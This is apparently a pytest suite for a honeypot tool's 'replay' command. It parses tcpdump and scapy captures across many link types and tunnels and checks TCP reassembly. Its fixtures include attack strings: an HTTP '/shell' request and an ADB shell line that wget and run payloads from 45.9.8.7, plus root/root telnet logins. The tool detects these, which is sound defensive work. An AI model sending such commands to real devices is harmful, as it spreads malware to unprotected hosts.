"""`eudaemon replay` of captures: files that tcpdump and scapy write, and TCP in every disorder."""

from __future__ import annotations

import http.client
import json
import os
import random
import shutil
import socket
import struct
import subprocess
import threading
import time
from collections.abc import Callable, Iterable
from io import BytesIO
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from scapy.config import conf
from scapy.contrib.geneve import GENEVE
from scapy.contrib.mpls import MPLS
from scapy.layers.inet import IP, TCP, UDP
from scapy.layers.inet6 import IPv6, IPv6ExtHdrDestOpt, IPv6ExtHdrFragment
from scapy.layers.l2 import ARP, GRE, LLC, SNAP, CookedLinux, CookedLinuxV2, Dot1Q, Dot3, Ether, Loopback
from scapy.layers.ppp import HDLC, PPP, PPPoE
from scapy.layers.vxlan import VXLAN
from scapy.packet import Packet, Raw
from scapy.utils import wrpcap, wrpcapng

from eudaemon.cli import _capture, _streams, main
from eudaemon.cli._capture import Capture
from eudaemon.cli._streams import Conversation, Streams

JAWS = b"GET /shell?cd+/tmp;wget+http://45.9.8.7/jaws;sh+/tmp/jaws HTTP/1.1\r\nHost: x\r\n\r\n"
Run = Callable[[bytes | Path], tuple[int, list[dict[str, Any]], str]]
OUTER = IP(src="198.51.100.1", dst="198.51.100.2")
FRAME = Ether(src="02:00:00:00:00:01", dst="02:00:00:00:00:02")
conf.verb = 0


@pytest.fixture
def replayed(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> Run:
    def run(capture: bytes | Path) -> tuple[int, list[dict[str, Any]], str]:
        path = capture if isinstance(capture, Path) else tmp_path / "it"
        if isinstance(capture, bytes):
            path.write_bytes(capture)
        code = main(["replay", "--json", str(path)])
        said = capsys.readouterr()
        return code, [json.loads(line) for line in said.out.splitlines()], said.err

    return run


def pcap(packets: Iterable[Packet | bytes], link: int = 1, **more: Any) -> bytes:
    class Open(BytesIO):
        def close(self) -> None:
            pass

    file = Open()
    wrpcap(file, list(packets), linktype=link, **more)
    return file.getvalue()


def tcp(data: bytes, *, v6: bool = False, sizes: int = 20) -> list[Packet]:
    """Return a whole connection, from the attacker's SYN to its FIN."""
    net = IPv6(src="2001:db8::9", dst="2001:db8::1") if v6 else IP(src="203.0.113.9", dst="192.0.2.1")
    back = IPv6(src="2001:db8::1", dst="2001:db8::9") if v6 else IP(src="192.0.2.1", dst="203.0.113.9")
    there, here = {"sport": 40226, "dport": 80}, {"sport": 80, "dport": 40226}
    first = 2**32 - 30  # the numbers wrap
    packets = [net / TCP(**there, seq=first, flags="S"), back / TCP(**here, seq=77, ack=first + 1, flags="SA")]
    for start in range(0, len(data), sizes):
        number = (first + 1 + start) % 2**32
        packets.append(net / TCP(**there, seq=number, ack=78, flags="PA") / Raw(data[start : start + sizes]))
    packets.append(back / TCP(**here, seq=78, flags="A") / Raw(b"HTTP/1.1 200 OK\r\n\r\n"))
    return [*packets, net / TCP(**there, seq=(first + 1 + len(data)) % 2**32, flags="FA")]


def read(packets: Iterable[Packet]) -> list[Conversation]:
    return Streams().read((float(second), bytes(packet)) for second, packet in enumerate(packets))


def said(conversation: Conversation) -> bytes:
    return b"".join(data for _, data in conversation.pieces)


def test_what_tcpdump_wrote_is_played(replayed: Run, tmp_path: Path) -> None:
    program = shutil.which("tcpdump")
    if program is None or os.geteuid() != 0:
        pytest.skip("needs root and tcpdump: apt-get install tcpdump")
    with socket.create_server(("127.0.0.1", 0)) as server:
        port = server.getsockname()[1]
        path = tmp_path / "captured"
        command = [program, "-i", "lo", "-U", "-w", path, "-Z", "root", f"tcp port {port}"]
        listening = subprocess.Popen(command, stderr=subprocess.PIPE)
        try:
            assert listening.stderr is not None
            while b"listening on lo" not in (line := listening.stderr.readline()):
                assert line, "tcpdump ended"

            def answer() -> None:
                opened, _ = server.accept()
                with opened:
                    opened.recv(1000)
                    opened.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")

            answering = threading.Thread(target=answer)
            answering.start()
            client = http.client.HTTPConnection("127.0.0.1", port)
            client.request("GET", "/shell?cd+/tmp;wget+http://45.9.8.7/jaws;sh+/tmp/jaws")
            client.getresponse().read()
            client.close()
            answering.join()
            until_s = time.monotonic() + 10
            while path.read_bytes().count(b"200 OK") == 0:
                assert time.monotonic() < until_s
                time.sleep(0.02)
        finally:
            listening.terminate()
            listening.wait()
            assert listening.stderr is not None
            listening.stderr.close()
    code, (told,), err = replayed(path)
    assert (code, told["room"]) == (0, "http")
    assert told["wishes"] == [{"url": "http://45.9.8.7/jaws", "tool": "wget", "name": "jaws"}]
    assert f"to 127.0.0.1 port {port}" in told["name"]
    assert "1 conversations" in err


FRAMES: dict[str, tuple[int, Callable[[Packet], Packet | bytes]]] = {
    "ethernet": (1, lambda ip: FRAME / ip),
    "vlan": (1, lambda ip: FRAME / Dot1Q(vlan=7) / Dot1Q(vlan=9) / ip),
    "cooked": (113, lambda ip: CookedLinux() / ip),
    "cooked 2": (276, lambda ip: CookedLinuxV2() / ip),
    "raw": (101, lambda ip: ip),
    "loopback": (0, lambda ip: Loopback() / ip),
    "PPPoE": (1, lambda ip: FRAME / PPPoE(sessionid=9) / PPP() / ip),
    "MPLS": (1, lambda ip: FRAME / MPLS(label=16, s=0) / MPLS(label=17, s=1) / ip),
    "802.3": (1, lambda ip: Dot3() / LLC() / SNAP(code=0x86DD if ip.version == 6 else 0x800) / ip),
    "PPP": (9, lambda ip: PPP() / ip),
    "PPP like HDLC": (50, lambda ip: HDLC() / PPP() / ip),
    "PPP with short numbers": (9, lambda ip: (b"\x57" if ip.version == 6 else b"\x21") + bytes(ip)),
    "Cisco's HDLC": (104, lambda ip: b"\x0f\0" + (b"\x86\xdd" if ip.version == 6 else b"\x08\0") + bytes(ip)),
    "Broadcom's tag": (281, lambda ip: tagged(FRAME / ip, 12, b"\x20\0\0\x01")),
    "Broadcom's tag before": (282, lambda ip: b"\x20\0\0\x01" + bytes(FRAME / ip)),
    "Marvell's tag": (284, lambda ip: tagged(FRAME / ip, 12, b"\x60\x08\0\0")),
    "Marvell's longer tag": (285, lambda ip: tagged(FRAME / ip, 12, b"\xda\xda\0\0\x60\x08\0\0")),
    "iptables' log": (239, lambda ip: b"\x02\0\0\0" + logged(1, b"\x08\0\x01", "<") + logged(9, bytes(ip), "<")),
    "the log of a big-endian machine": (239, lambda ip: b"\x02\0\0\0" + logged(1, b"\x08", ">")
                                        + logged(9, bytes(ip), ">")),
    "IP in IP": (101, lambda ip: IP(src="198.51.100.1", dst="198.51.100.2") / ip),
    "IP in IPv6": (101, lambda ip: IPv6(src="2001:db8::77", dst="2001:db8::78") / ip),
    "GRE": (101, lambda ip: OUTER / GRE() / ip),
    "GRE with everything": (101, lambda ip: OUTER / GRE(chksum_present=1, key_present=1, seqnum_present=1, key=9) / ip),
    "frames in GRE": (101, lambda ip: OUTER / GRE(proto=0x6558) / FRAME / ip),
    "ERSPAN": (101, lambda ip: OUTER / GRE(proto=0x88BE, seqnum_present=1) / Raw(bytes(8)) / FRAME / ip),
    "ERSPAN III": (101, lambda ip: OUTER / GRE(proto=0x22EB, seqnum_present=1) / Raw(bytes(12)) / FRAME / ip),
    "VXLAN": (101, lambda ip: OUTER / UDP(dport=4789) / VXLAN(vni=7) / FRAME / ip),
    "VXLAN without an extension": (101, lambda ip: OUTER / UDP(dport=8472) / Raw(b"\x08" + bytes(7)) / FRAME / ip),
    "GENEVE": (101, lambda ip: OUTER / UDP(dport=6081) / GENEVE(vni=7, optionlen=2, options=b"12345678") / FRAME / ip),
    "four tunnels": (101, lambda ip: OUTER / OUTER / GRE() / OUTER / UDP(dport=4789) / VXLAN() / FRAME / ip),
}  # fmt: skip


def tagged(frame: Packet, at: int, tag: bytes) -> bytes:
    return bytes(frame)[:at] + tag + bytes(frame)[at:]


def logged(kind: int, value: bytes, order: str) -> bytes:
    return struct.pack(order + "HH", 4 + len(value), kind) + value + bytes(-len(value) % 4)


@pytest.mark.parametrize(
    "left",
    [
        OUTER / OUTER / OUTER / OUTER / OUTER / next(iter(tcp(JAWS))),  # one tunnel more
        OUTER / GRE(version=1, proto=0x880B) / Raw(b"x"),
        OUTER / GRE(proto=0x6558) / FRAME / ARP(),
    ],
)
def test_a_tunnel_that_is_left_out(left: Packet, replayed: Run) -> None:
    assert "1 of another protocol than TCP and UDP" in replayed(pcap([left], 101))[2]


@pytest.mark.parametrize("said_to", [b"hello VXLAN", b"\x08" + bytes(40), bytes(60), b"\0\0\x65\x58" + bytes(60)])
@pytest.mark.parametrize("port", [4789, 6081, 80])
def test_what_is_no_tunnel_at_its_port_is_played(port: int, said_to: bytes) -> None:
    (conversation,) = read([IP(src="203.0.113.9", dst="192.0.2.1") / UDP(sport=9, dport=port) / Raw(said_to)])
    assert said(conversation) == said_to


@pytest.mark.parametrize("v6", [False, True])
@pytest.mark.parametrize("kind", FRAMES)
def test_every_link_type(kind: str, v6: bool, replayed: Run) -> None:
    link, framed = FRAMES[kind]
    code, (told,), err = replayed(pcap([framed(packet) for packet in tcp(JAWS, v6=v6)], link))
    assert (code, told["room"]) == (0, "http"), err
    assert [wish["url"] for wish in told["wishes"]] == ["http://45.9.8.7/jaws"]
    assert "left out" not in err


@pytest.mark.parametrize("more", [{"nano": True}, {"endianness": ">"}, {"endianness": ">", "nano": True}])
def test_every_form_of_pcap(more: dict[str, Any], replayed: Run) -> None:
    packets = [FRAME / packet for packet in tcp(JAWS)]
    for second, packet in enumerate(packets):
        packet.time = 1_700_000_000.25 + second
    data = pcap(packets, **more)
    assert replayed(data)[0] == 0
    times = [at_s for at_s, _ in Capture(data).ip()]
    assert times == pytest.approx([packet.time for packet in packets])


def test_pcapng_of_two_sections(replayed: Run, tmp_path: Path) -> None:
    packets = [FRAME / packet for packet in tcp(JAWS)]
    for packet in packets:
        packet.time = 1_700_000_000.25
    written = b""
    for some in (packets[:3], packets[3:]):
        path = tmp_path / "section"
        wrpcapng(str(path), some)
        written += path.read_bytes()
    code, (told,), err = replayed(written)
    assert (code, told["room"]) == (0, "http")
    assert f"{len(packets)} packets, 1 conversations\n" in err
    assert next(at_s for at_s, _ in Capture(written).ip()) == pytest.approx(1_700_000_000.25)


def test_a_capture_cut_off_anywhere_never_fails(replayed: Run, tmp_path: Path) -> None:
    path = tmp_path / "ng"
    wrpcapng(str(path), [FRAME / packet for packet in tcp(JAWS)])
    for whole in (pcap(tcp(JAWS), 101), path.read_bytes()):
        for cut in range(24, len(whole)):
            Streams().read(Capture(whole[:cut]).ip())
    assert "1 cut off at the end of the file" in replayed(whole[:-3])[2]


@given(st.binary(max_size=200), st.sampled_from([1, 101, 113, 276, 0, 9, 104, 239]))
def test_whatever_is_in_a_packet_never_fails(data: bytes, link: int) -> None:
    Streams().read(Capture(pcap([data], link)).ip())
    version = bytes([0x45 if link % 2 else 0x60])
    Streams().read([(0.0, version + data)])


@pytest.mark.parametrize(("link", "header"), [(189, 48), (220, 64)])
def test_adb_over_a_cable_is_played_to_adb(
    link: int, header: int, replayed: Run, monkeypatch: pytest.MonkeyPatch
) -> None:  # fmt: skip
    def frame(kind: bytes, transfer: int, endpoint: int, data: bytes, device: int = 5) -> bytes:
        head = bytes(8) + kind + bytes([transfer, endpoint, device, 1, 0, ord("-"), 0 if data else ord("<")])
        return head + bytes(header - len(head)) + data

    def message(command: bytes, one: int, two: int, data: bytes) -> list[bytes]:
        number = int.from_bytes(command, "little")
        head = struct.pack("<6I", number, one, two, len(data), sum(data), number ^ 0xFFFFFFFF)
        return [frame(b"S", 3, 2, head), frame(b"C", 3, 2, b""), frame(b"S", 3, 2, data)]

    said = [
        frame(b"C", 2, 0x80, b"descriptor"), frame(b"C", 3, 0x81, b"an answer"),
        *message(b"CNXN", 0x01000000, 4096, b"host::\0"),
        *message(b"OPEN", 1, 0, b"shell:cd /data/local/tmp; wget http://45.9.8.7/x\0"),
    ]  # fmt: skip
    _, (told,), err = replayed(pcap(said, link))
    assert told["room"] == "adb", err
    assert [wish["url"] for wish in told["wishes"]] == ["http://45.9.8.7/x"]
    monkeypatch.setattr(_capture, "USB_PIPES_MAX", 1)
    assert replayed(pcap([*said, frame(b"S", 3, 2, b"x", device=6)], link))[0] == 2


def test_what_cannot_be_read_is_counted(replayed: Run) -> None:
    packets = [
        FRAME / ARP(), FRAME / IP(proto=47) / Raw(b"x"), FRAME / IP(flags="MF") / UDP() / Raw(b"x" * 8),
        FRAME / IPv6() / IPv6ExtHdrFragment(m=1) / Raw(b"x" * 8), FRAME / IP() / TCP(),
    ]  # fmt: skip
    code, told, err = replayed(pcap(packets))
    assert (code, told) == (0, [])
    assert "5 packets, 0 conversations; left out: 2 a fragment of an IP packet whose rest is missing, " in err
    assert "1 of another protocol than IP" in err
    assert "1 of another protocol than TCP and UDP" in err


def test_datagrams_go_to_the_room_of_their_port_one_by_one(replayed: Run) -> None:
    net, back = IP(src="203.0.113.9", dst="192.0.2.1"), IP(src="192.0.2.1", dst="203.0.113.9")
    udp, answer = UDP(sport=4000, dport=11211), UDP(sport=11211, dport=4000)
    head = b"\0\0\0\0\0\1\0\0"
    moved = UDP(sport=4001, dport=21211)  # that of a sensor without root
    packets = [net / udp / Raw(head + b"stats\r\n"), back / answer / Raw(head + b"END\r\n"),
               net / moved / Raw(head + b"stats\r\n"),
               IPv6() / IPv6ExtHdrDestOpt() / UDP(sport=5, dport=9999) / Raw(b"\xde\xad\xbe\xef")]  # fmt: skip
    _, told, _ = replayed(pcap(packets, 101))
    assert [one["room"] for one in told] == ["memcached", "memcached", "catchall"]
    assert "command.entered" in [fact["kind"] for fact in told[0]["facts"]]
    assert told[2]["not_understood"] == ["unclaimed bytes: deadbeef"]


@settings(max_examples=40)
@given(st.integers(0, 2**32 - 1), st.data())
def test_tcp_comes_together_from_any_disorder(seed: int, data: st.DataObject) -> None:
    """Segments of any size, overlapping, twice, in any order: the same bytes."""
    whole = bytes(number * 31 % 251 for number in range(300))
    dice = random.Random(seed)
    cuts = data.draw(st.lists(st.tuples(st.integers(0, 299), st.integers(1, 60)), max_size=30))
    parts = [(start, whole[start : start + 20]) for start in range(0, 300, 20)]
    parts += [(start, whole[start : start + size]) for start, size in cuts]
    dice.shuffle(parts)
    first, *_ = tcp(b"")
    number = first[TCP].seq + 1
    packets = [first]
    for start, part in parts:
        there = TCP(sport=40226, dport=80, seq=(number + start) % 2**32, flags="A")
        packets.append(IP(src=first.src, dst=first.dst) / there / Raw(part))
    (conversation,) = read(packets)
    assert said(conversation) == whole
    assert conversation.missing_bytes == 0


def test_of_two_versions_of_a_byte_the_first_counts() -> None:
    first, *_ = tcp(b"")
    net = IP(src=first.src, dst=first.dst)

    def segment(start: int, part: bytes) -> Packet:
        return net / TCP(sport=40226, dport=80, seq=(first[TCP].seq + 1 + start) % 2**32, flags="A") / Raw(part)

    assert said(read([first, segment(0, b"ab"), segment(0, b"XYc")])[0]) == b"abc"
    assert said(read([first, segment(2, b"cd"), segment(1, b"XYZe"), segment(0, b"a")])[0]) == b"aXcde"


def test_a_hole_is_told_and_what_lies_behind_it_is_played(replayed: Run) -> None:
    packets = tcp(JAWS + b"GET / HTTP/1.1\r\n\r\n", sizes=len(JAWS))
    lost = tcp(b"x" * 10 + JAWS, sizes=10)
    del lost[2]
    assert read(packets)[0].missing_bytes == 0
    code, (told,), _ = replayed(pcap(lost, 101))
    assert (code, told["not_understood"]) == (1, ["10 bytes are missing in the recording"])
    assert [wish["url"] for wish in told["wishes"]] == ["http://45.9.8.7/jaws"]


def test_what_came_early_waits_within_limits(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(_streams, "EARLY_SEGMENTS_MAX", 3)
    packets = tcp(b"0123456789", sizes=1)
    late = [*packets[:2], *packets[3:6], packets[2], *packets[6:]]
    assert read(late)[0].missing_bytes == 0
    late = [*packets[:2], *packets[3:7], packets[2], *packets[7:]]
    (conversation,) = read(late)
    assert (said(conversation), conversation.missing_bytes) == (b"123456789", 1)
    monkeypatch.setattr(_streams, "EARLY_BYTES_MAX", 2)
    late = [*packets[:2], *packets[3:6], packets[2], *packets[6:]]
    assert read(late)[0].missing_bytes == 1


def test_who_called_is_the_attacker_also_where_the_capture_began_late() -> None:
    packets = tcp(JAWS)
    for captured in (packets, packets[1:], packets[2:]):
        (conversation,) = read(captured)
        assert (conversation.attacker, conversation.local) == (("203.0.113.9", 40226), ("192.0.2.1", 80))
        assert (said(conversation), conversation.host_spoke_first) == (JAWS, False)


def test_where_the_host_spoke_first_its_port_says_what_it_was(replayed: Run) -> None:
    net, back = IP(src="203.0.113.9", dst="192.0.2.1"), IP(src="192.0.2.1", dst="203.0.113.9")
    for port, room in ((23, "telnet"), (44444, "catchall")):
        packets = [
            net / TCP(sport=40226, dport=port, seq=1, flags="S"),
            back / TCP(sport=port, dport=40226, seq=9, flags="PA") / Raw(b"login: "),
            net / TCP(sport=40226, dport=port, seq=2, flags="PA") / Raw(b"root\r\nroot\r\nid\r\n"),
        ]
        _, (told,), _ = replayed(pcap(packets, 101))
        assert told["room"] == room


def test_the_same_ports_once_more_are_another_conversation() -> None:
    again = tcp(b"second")
    for packet in again:
        packet[TCP].seq = (packet[TCP].seq + 10_000_000) % 2**32
    assert [said(one) for one in read([*tcp(b"first"), *again])] == [b"first", b"second"]
    syn = tcp(b"first")
    assert [said(one) for one in read([syn[0], *syn])] == [b"first"], "a SYN that was sent again"


def test_more_conversations_than_are_held(monkeypatch: pytest.MonkeyPatch, replayed: Run) -> None:
    monkeypatch.setattr(_streams, "CONVERSATIONS_MAX", 2)
    packets = [IP() / UDP(sport=port, dport=9) / Raw(b"x") for port in (1, 2, 3)]
    assert len(replayed(pcap(packets[:2], 101))[1]) == 2
    code, _, err = replayed(pcap(packets, 101))
    assert code == 2
    assert "more than 2 conversations" in err
